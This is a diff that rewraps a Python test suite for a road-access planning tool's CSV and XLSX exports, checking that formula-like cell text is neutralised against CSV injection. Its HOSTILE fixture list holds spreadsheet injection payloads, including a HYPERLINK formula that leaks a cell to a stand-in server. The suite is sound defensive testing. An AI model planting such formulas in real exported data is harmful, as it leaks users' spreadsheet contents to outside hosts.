@@ -1,5 +1,6 @@
-"""No exported table runs as a spreadsheet formula (report/cells.py): formula-like text in every CSV and XLSX we write
-is neutralised (OWASP CSV injection), the workbooks hold no formula at all, numbers stay numbers."""
+"""No exported table runs as a spreadsheet formula (report/cells.py): formula-like text in every CSV and XLSX
+we write is neutralised (OWASP CSV injection), the workbooks hold no formula at all, numbers stay
+numbers."""
 
 from __future__ import annotations
 
@@ -17,15 +18,16 @@ from openpyxl.utils.escape import unescape
 from cli import main
 
 ROOT = Path(__file__).resolve().parents[1]
-#: Cell texts an attacker would put in a road id, a name or a note (a leak to a server, arithmetic, a function call,
-#: and the tab/CR variants that hide a formula behind whitespace).
+#: Cell texts an attacker would put in a road id, a name or a note (a leak to a server, arithmetic, a function
+#: call, and the tab/CR variants that hide a formula behind whitespace).
 HOSTILE = ['=HYPERLINK("http://x?leak="&A2,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
 STARTS = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")
 
 
 def csv_rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
-    """The cells a spreadsheet's import sees with ``delimiter`` (double quotes delimit text, as in Excel/LibreOffice)."""
+    """The cells a spreadsheet's import sees with ``delimiter`` (double quotes delimit text, as in
+    Excel/LibreOffice)."""
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
 
 
@@ -33,22 +35,23 @@ _FIELD = re.compile(r'"((?:[^"]|"")*)"|([^,"\n]*)')
 
 
 def csv_fields(data: bytes) -> list[tuple[str, bool]]:
-    """Every field of the CSV as (text, quoted), read as a spreadsheet reads it: a field that opens with a double
-    quote runs to its closing quote, separators and line breaks inside included."""
+    """Every field of the CSV as (text, quoted), read as a spreadsheet reads it: a field that opens with a
+    double quote runs to its closing quote, separators and line breaks inside included."""
     text, fields, pos = data.decode("utf-8-sig"), [], 0
     while pos < len(text):
         match = _FIELD.match(text, pos)
         quoted = match.group(1) is not None
         fields.append((match.group(1).replace('""', '"') if quoted else match.group(2), quoted))
         pos = match.end()
-        assert pos == len(text) or text[pos] in ",\n", f"stray character at {pos}: {text[pos:pos + 20]!r}"
+        assert pos == len(text) or text[pos] in ",\n", f"stray character at {pos}: {text[pos : pos + 20]!r}"
         pos += 1
     return fields
 
 
 def assert_csv_safe(data: bytes) -> None:
-    """Every text cell is quoted, so a spreadsheet that splits on comma, semicolon or tab (LibreOffice ticks all
-    three by default) keeps it one cell; no cell starts like a formula; the bare cells are plain numbers."""
+    """Every text cell is quoted, so a spreadsheet that splits on comma, semicolon or tab (LibreOffice ticks
+    all three by default) keeps it one cell; no cell starts like a formula; the bare cells are plain
+    numbers."""
     for text, quoted in csv_fields(data):
         if quoted:
             assert not text.startswith(STARTS), text
@@ -59,17 +62,23 @@ def assert_csv_safe(data: bytes) -> None:
 def xlsx_formulas(data: bytes) -> list[str]:
     """Every ``<f>`` element of every worksheet of the workbook ``data`` (unzipped, as the file stores it)."""
     with zipfile.ZipFile(io.BytesIO(data)) as book:
-        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")]
+        sheets = [
+            name for name in book.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")
+        ]
         assert sheets
-        return [f for name in sheets for f in re.findall(r"<f[ >].*?</f>|<f/>", book.read(name).decode("utf-8"))]
+        return [
+            f for name in sheets for f in re.findall(r"<f[ >].*?</f>|<f/>", book.read(name).decode("utf-8"))
+        ]
 
 
 def assert_xlsx_safe(data: bytes) -> list[openpyxl.cell.Cell]:
-    """No formula and no hyperlink in the workbook; every formula-like text cell is a string marked with Excel's
-    leading apostrophe (quotePrefix). Returns those cells."""
+    """No formula and no hyperlink in the workbook; every formula-like text cell is a string marked with
+    Excel's leading apostrophe (quotePrefix). Returns those cells."""
     assert xlsx_formulas(data) == []
     with zipfile.ZipFile(io.BytesIO(data)) as book:
-        assert not any("hyperlink" in book.read(n).decode("utf-8") for n in book.namelist() if n.endswith(".xml"))
+        assert not any(
+            "hyperlink" in book.read(n).decode("utf-8") for n in book.namelist() if n.endswith(".xml")
+        )
     marked = []
     for ws in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
         for row in ws.iter_rows():
@@ -83,23 +92,33 @@ def assert_xlsx_safe(data: bytes) -> list[openpyxl.cell.Cell]:
 
 def hostile_table() -> pd.DataFrame:
     n = len(HOSTILE) + 1
-    return pd.DataFrame({
-        "Xã": [*HOSTILE, "Xã Mường Nhé"],
-        HOSTILE[0]: ["ghi chú"] * n,  # a header too
-        "Khoảng cách (km)": [-1.5, 0.0, 2.25, -3.0, 4.0, -0.5, 1.0],
-        "Số hộ": pd.array([-2, 0, 5, None, 7, 8, 9], dtype="Int64"),
-        "Mã": pd.Categorical(["-5", "03136", *HOSTILE[:5]]),
-    })
+    return pd.DataFrame(
+        {
+            "Xã": [*HOSTILE, "Xã Mường Nhé"],
+            HOSTILE[0]: ["ghi chú"] * n,  # a header too
+            "Khoảng cách (km)": [-1.5, 0.0, 2.25, -3.0, 4.0, -0.5, 1.0],
+            "Số hộ": pd.array([-2, 0, 5, None, 7, 8, 9], dtype="Int64"),
+            "Mã": pd.Categorical(["-5", "03136", *HOSTILE[:5]]),
+        }
+    )
 
 
-# --- the rule ----------------------------------------------------------------------------------------------------
+# --- the rule
+# ----------------------------------------------------------------------------------------------------
+
 
 def test_rule_prefixes_formula_like_text_and_leaves_numbers_and_plain_text():
     from report.cells import is_formula_like, neutralise_text
 
     assert [neutralise_text(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
     assert [neutralise_text(v) for v in (-2.5, -3, "Xã Mường Nhé", "03136", "", None)] == [
-        -2.5, -3, "Xã Mường Nhé", "03136", "", None]
+        -2.5,
+        -3,
+        "Xã Mường Nhé",
+        "03136",
+        "",
+        None,
+    ]
     assert not is_formula_like(-1) and not is_formula_like(" =1") and is_formula_like("=")
 
 
@@ -111,12 +130,27 @@ def test_csv_neutralises_every_text_cell_header_and_note_line_and_keeps_numbers(
     assert_csv_safe(data)
     rows = csv_rows(data)
     assert rows[0] == ["Xã", "'" + HOSTILE[0], "Khoảng cách (km)", "Số hộ", "Mã"]
-    body = rows[1:len(table) + 1]
+    body = rows[1 : len(table) + 1]
     assert [r[0] for r in body] == ["'" + v for v in HOSTILE] + ["Xã Mường Nhé"]
-    assert [r[4] for r in body] == ["'-5", "03136", *("'" + v for v in HOSTILE[:5])]  # text that looks numeric is text
-    assert rows[len(table) + 1] == [] and [r[0] for r in rows[len(table) + 2:]] == ["Nguồn:", *("'" + v for v in HOSTILE)]
+    assert [r[4] for r in body] == [
+        "'-5",
+        "03136",
+        *("'" + v for v in HOSTILE[:5]),
+    ]  # text that looks numeric is text
+    assert rows[len(table) + 1] == [] and [r[0] for r in rows[len(table) + 2 :]] == [
+        "Nguồn:",
+        *("'" + v for v in HOSTILE),
+    ]
     back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", nrows=len(table))
-    assert back["Khoảng cách (km)"].tolist() == [-1.5, 0.0, 2.25, -3.0, 4.0, -0.5, 1.0]  # negative numbers stay numbers
+    assert back["Khoảng cách (km)"].tolist() == [
+        -1.5,
+        0.0,
+        2.25,
+        -3.0,
+        4.0,
+        -0.5,
+        1.0,
+    ]  # negative numbers stay numbers
     assert back["Số hộ"].tolist()[:3] == [-2, 0, 5] and back["Số hộ"].isna().tolist()[3]
 
 
@@ -136,13 +170,20 @@ def test_cli_csv_writer_is_the_same_csv(tmp_path):
 def test_xlsx_writes_text_as_text_marked_with_the_apostrophe_and_numbers_as_numbers():
     from report.tables import table_xlsx_bytes
 
-    table = hostile_table().fillna({"Số hộ": 6})  # a missing value crashes the width code (issue 10 item 9, not here)
+    table = hostile_table().fillna(
+        {"Số hộ": 6}
+    )  # a missing value crashes the width code (issue 10 item 9, not here)
     data = table_xlsx_bytes(table, sheet="Bảng", title_note="\n".join(["Nguồn:", *HOSTILE]))
     marked = assert_xlsx_safe(data)
     book = openpyxl.load_workbook(io.BytesIO(data))
     ws, notes = book["Bảng"], book["Nguồn - Sources"]
-    assert [unescape(ws.cell(r, 1).value) for r in range(2, 9)] == [*HOSTILE, "Xã Mường Nhé"]  # shown as typed
-    assert ws["B1"].value == HOSTILE[0] and ws["B1"].quotePrefix and ws["B1"].font.bold  # header keeps its style
+    assert [unescape(ws.cell(r, 1).value) for r in range(2, 9)] == [
+        *HOSTILE,
+        "Xã Mường Nhé",
+    ]  # shown as typed
+    assert (
+        ws["B1"].value == HOSTILE[0] and ws["B1"].quotePrefix and ws["B1"].font.bold
+    )  # header keeps its style
     assert not ws["A8"].quotePrefix and not ws["A1"].quotePrefix  # plain text is left alone
     assert [ws.cell(r, 3).value for r in range(2, 9)] == [-1.5, 0, 2.25, -3, 4, -0.5, 1]
     assert all(ws.cell(r, 3).data_type == "n" for r in range(2, 9))
@@ -152,9 +193,11 @@ def test_xlsx_writes_text_as_text_marked_with_the_apostrophe_and_numbers_as_numb
 
 
 def test_every_table_writer_goes_through_report_cells():
-    """One home: no module of the product writes a CSV or a workbook by itself (it would skip the rule; bench/ and
-    scripts/ write only their own measurements)."""
-    writers = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(|csv\.DictWriter\(|xlsxwriter|openpyxl\.Workbook")
+    """One home: no module of the product writes a CSV or a workbook by itself (it would skip the rule; bench/
+    and scripts/ write only their own measurements)."""
+    writers = re.compile(
+        r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(|csv\.DictWriter\(|xlsxwriter|openpyxl\.Workbook"
+    )
     offenders = []
     for path in ROOT.rglob("*.py"):
         rel = path.relative_to(ROOT).as_posix()
@@ -165,11 +208,14 @@ def test_every_table_writer_goes_through_report_cells():
     assert offenders == []
 
 
-# --- hostile data through the real exports --------------------------------------------------------------------------
+# --- hostile data through the real exports
+# --------------------------------------------------------------------------
+
 
 @pytest.fixture(scope="module")
 def hostile_project(tmp_path_factory) -> Path:
-    """A project whose roads layer is the embedded network with hostile road ids (so the weakest links carry them)."""
+    """A project whose roads layer is the embedded network with hostile road ids (so the weakest links carry
+    them)."""
     from geo.project import save_layer
     from layers.roads import load_roads
 
@@ -194,14 +240,21 @@ def test_cli_csvs_neutralise_hostile_road_ids(hostile_project, tmp_path, command
     weakest = _weakest_cells(table["weakest_segment"])
     assert len(weakest) >= 5  # the embedded network has communes without an all-season route
     assert all(v.startswith("'") and v[1:].rsplit(" #", 1)[0] in HOSTILE for v in weakest)
-    assert pd.to_numeric(table["rai_share" if command == "access" else "dist_grid_km"], errors="coerce").notna().all()
+    assert (
+        pd.to_numeric(table["rai_share" if command == "access" else "dist_grid_km"], errors="coerce")
+        .notna()
+        .all()
+    )
 
 
 @pytest.mark.parametrize("what", ["flags", "access", "indicators"])
 def test_meeting_tables_with_the_hostile_project(hostile_project, tmp_path, what):
     for fmt in ("csv", "xlsx"):
         out = tmp_path / f"{what}.{fmt}"
-        assert main(["export", "table", "--what", what, "--project", str(hostile_project), "--out", str(out)]) == 0
+        assert (
+            main(["export", "table", "--what", what, "--project", str(hostile_project), "--out", str(out)])
+            == 0
+        )
         if fmt == "csv":
             assert_csv_safe(out.read_bytes())
         else:
@@ -216,13 +269,15 @@ def test_scorecard_targets_starting_with_equals_are_text(tmp_path, level):
     marked = assert_xlsx_safe(xlsx.read_bytes())
     texts = [c.value for c in marked]
     assert "=" in texts and "= 100 % số xã" in texts
-    # every such cell: the comparator "=" and its target text, on each row judged with "=" (10 cells at province
-    # level, as the issue counted them)
+    # every such cell: the comparator "=" and its target text, on each row judged with "=" (10 cells at
+    # province level, as the issue counted them)
     from workflows.scorecard import load_scorecard
 
     rows_with_equals = int((load_scorecard(level).scorecard["comparator"] == "=").sum())
     assert rows_with_equals >= 5 and len(marked) == 2 * rows_with_equals
-    for args in (["export", "table", "--what", "scorecard", "--format", "csv"], ["scorecard"])[: 2 if level == "province" else 1]:
+    for args in (["export", "table", "--what", "scorecard", "--format", "csv"], ["scorecard"])[
+        : 2 if level == "province" else 1
+    ]:
         out = tmp_path / "sc.csv"
         assert main([*args, "--level", level, "--out", str(out)]) == 0
         assert_csv_safe(out.read_bytes())
@@ -230,8 +285,11 @@ def test_scorecard_targets_starting_with_equals_are_text(tmp_path, level):
         assert "'=" in set(table["comparator"]) and not set(table["comparator"]) & {"="}
 
 
-def _page_downloads(monkeypatch, page_name: str, project: Path | None, *, clicks: tuple[str, ...] = ()) -> list[bytes]:
-    """Run one page in AppTest (with ``project``), press ``clicks``; return the bytes of every download button."""
+def _page_downloads(
+    monkeypatch, page_name: str, project: Path | None, *, clicks: tuple[str, ...] = ()
+) -> list[bytes]:
+    """Run one page in AppTest (with ``project``), press ``clicks``; return the bytes of every download
+    button."""
     from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
     from streamlit.testing.v1 import AppTest
 
@@ -263,12 +321,16 @@ def _page_downloads(monkeypatch, page_name: str, project: Path | None, *, clicks
 @pytest.mark.parametrize("page", ["flags", "access"])
 def test_page_downloads_neutralise_hostile_road_ids(monkeypatch, hostile_project, page):
     downloads = _page_downloads(monkeypatch, page, hostile_project)
-    assert len(downloads) == 2 and downloads[0].startswith(b"PK")  # XLSX first (for people), then CSV (programs)
+    assert len(downloads) == 2 and downloads[0].startswith(
+        b"PK"
+    )  # XLSX first (for people), then CSV (programs)
     marked = [unescape(c.value) for c in assert_xlsx_safe(downloads[0])]
     assert len(marked) >= 5 and all(v.split(" #")[0] in HOSTILE for v in marked)
     assert_csv_safe(downloads[1])
     rows = csv_rows(downloads[1])
-    column = rows[0].index("Đoạn yếu nhất" if page == "access" else next(c for c in rows[0] if "yếu nhất" in c))
+    column = rows[0].index(
+        "Đoạn yếu nhất" if page == "access" else next(c for c in rows[0] if "yếu nhất" in c)
+    )
     weakest = [r[column] for r in rows[1:] if len(r) > column and r[column]]
     assert len(weakest) >= 5 and all(v.startswith("'") and v[1:].split(" #")[0] in HOSTILE for v in weakest)
 
